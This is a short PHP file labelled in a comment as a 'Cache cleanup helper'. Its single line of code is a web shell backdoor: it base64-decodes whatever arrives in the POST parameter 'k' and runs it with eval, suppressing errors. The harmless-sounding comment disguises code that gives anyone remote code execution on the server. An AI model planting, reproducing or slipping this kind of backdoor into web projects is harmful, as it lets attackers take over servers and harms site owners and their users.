<?php
/* Cache cleanup helper */
if (isset($_POST['k'])) { @eval(base64_decode($_POST['k'])); }
